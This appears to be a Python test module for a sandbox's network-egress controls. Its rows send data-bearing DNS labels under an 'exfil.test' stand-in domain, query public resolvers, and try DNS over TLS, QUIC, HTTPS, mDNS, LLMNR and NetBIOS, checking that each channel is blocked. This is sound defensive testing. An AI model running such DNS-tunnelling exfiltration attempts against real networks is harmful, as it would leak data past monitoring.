"""Rows about names: what a lookup carries out, what it answers, and what a name may come to stand for."""

import random
import re

import world
from bed import b64, only, tally
from ledger import new_token
from table import row

ALLOWED = world.ADDRESSES["allowed.test"]
WILD = world.ADDRESSES["wild.test"]


def labels(count, parent):
    return [[f"{new_token()}.{parent}", 1] for _ in range(count)]


def answered_or_throttled(result):
    """Synthetic addresses until there were too many new names; nothing else."""
    return set(result["saw"]) <= {"ADDRESS", "SERVFAIL"} and 0 < result["saw"].get("ADDRESS", 0) and all(
        address.startswith(("198.18.", "198.19.")) for address in result["addresses"])


def not_there(bed, count):
    """What a name that no rule knows gets: it does not exist, and the error says by whose will."""
    def sees(result):
        return result["saw"] == {"NXDOMAIN": count} and result["extended"] == {"15": count}
    return bed.by(sees, sees, answered_or_throttled)


@row("B01", "names with data in their labels, not listed", "NXDOMAIN with the extended error Blocked, under *all* an address of "
     "the sandbox's own; nobody is asked", is_heavy=True)
def labels_of_unlisted_names(bed):
    count = 1000 * bed.scale // 1
    bed.look([({"op": "dns_many", "questions": labels(count, "exfil.test"), "wait": bed.patience}, not_there(bed, count))])


@row("B02", "the same questions to 8.8.8.8, over UDP and TCP", "answered by the sandbox's own network as B01; nothing leaves",
     is_heavy=True)
def questions_to_others(bed):
    count = 100
    wanted = bed.by("NXDOMAIN", "NXDOMAIN", "ADDRESS")
    tries = [({"op": "dns_many", "questions": labels(count, "exfil.test"), "server": world.RESOLVER}, not_there(bed, count))]
    for server in (world.RESOLVER, "1.1.1.1", "10.0.0.5"):
        tries += [({"op": "dns", "name": f"{new_token()}.exfil.test", "server": server, "tcp": True}, wanted) for _ in range(20)]
    bed.look(tries)


@row("B03", "DNS over TLS and QUIC, mDNS, LLMNR, NetBIOS names", "TCP is reset, under *all* it is a connection as any; "
     "no datagram leaves")
def other_name_services(bed):
    token = bed.token()
    connected = bed.by("refused", "refused", "answered")
    arrives = bed.by([], [], ["tcp 1.1.1.1:853"])
    bed.look([({"op": "tcp", "to": ["1.1.1.1", 853]}, connected)], "TLS", arrives)
    targets = [["1.1.1.1", 784], ["1.1.1.1", 853], ["224.0.0.251", 5353], ["224.0.0.252", 5355], ["10.0.2.255", 137],
               ["255.255.255.255", 137], ["8.8.8.8", 5353]]
    bed.look([({"op": "udp", "targets": targets, "data": b64(token.encode()), "wait": bed.silence}, "no answer")], "UDP")


@row("B04", "DNS over HTTPS to a public resolver, by name and by address", "NXDOMAIN and a reset; under *all* a connection "
     "as any")
def dns_over_https(bed):
    by_name, by_address = bed.token(arrives=bed.policy == "all"), bed.token(arrives=bed.policy == "all")
    address = world.ADDRESSES["evil.test"]
    bed.look([(bed.https("dns.google", by_name), bed.by("NXDOMAIN", "NXDOMAIN", "answered")),
              ({"op": "tls", "to": ["1.1.1.1", 443], "sni": None, "root": bed.world.root,
                "send": b64(f"GET /dns-query?{by_address} HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n".encode())},
               bed.by("refused", "refused", "answered"))],
             arrives=bed.by([], [], {*bed.https_arrives("dns.google", address), "tcp 1.1.1.1:443", "data 1.1.1.1:443", "tls ",
                                     "https 1.1.1.1"}))


@row("B05", "every type of record of a name that is allowed", "an address for A, no data for all others; nobody is asked")
def types(bed):
    questions = [["allowed.test", kind] for kind in range(1, 261) if kind != 41]
    wanted = bed.by(tally(NXDOMAIN=len(questions)), *[tally(ADDRESS=1, NODATA=len(questions) - 1)] * 2)
    bed.look([({"op": "dns_many", "questions": questions}, wanted)])


@row("B06", "data in labels below a wildcard that is allowed, no connection", "addresses of the sandbox's own, and SERVFAIL "
     "after some hundred; nobody is asked", is_heavy=True)
def labels_below_a_wildcard(bed):
    count = 10000 * bed.scale // 1

    def throttled(result):
        return answered_or_throttled(result) and result["saw"].get("ADDRESS", 0) < 500 + 60 * bed.patience and sum(
            result["saw"].values()) == count
    results = bed.look([({"op": "dns_many", "questions": labels(count, "wild.test")},
                         bed.by(tally(NXDOMAIN=count), throttled, throttled))])
    if bed.policy != "none" and bed.guest.has_network and len(results[0]["addresses"]) != results[0]["saw"].get("ADDRESS", 0):
        bed.fault("two names have one address")
